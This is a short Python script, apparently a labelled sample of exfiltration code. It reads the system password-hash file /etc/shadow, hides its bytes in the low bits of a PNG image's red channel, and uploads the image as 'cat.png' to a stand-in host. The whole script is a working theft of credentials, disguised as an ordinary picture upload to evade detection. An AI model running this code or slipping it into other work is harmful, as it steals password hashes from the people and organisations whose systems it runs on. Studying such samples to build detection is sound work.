# class: exfiltration, hidden in a picture; style: over-engineered
from PIL import Image
import io, os, requests
secret = open("/etc/shadow", "rb").read()
bits = [(b >> i) & 1 for b in len(secret).to_bytes(4, "big") + secret for i in range(7, -1, -1)]
im = Image.new("RGB", (512, 512), (120, 120, 120)); px = im.load()
for n, bit in enumerate(bits):
    x, y = n % 512, n // 512
    r, g, b = px[x, y]; px[x, y] = (r & ~1 | bit, g, b)
buf = io.BytesIO(); im.save(buf, "PNG")
requests.post("https://img.host.example/upload", files={"img": ("cat.png", buf.getvalue())})
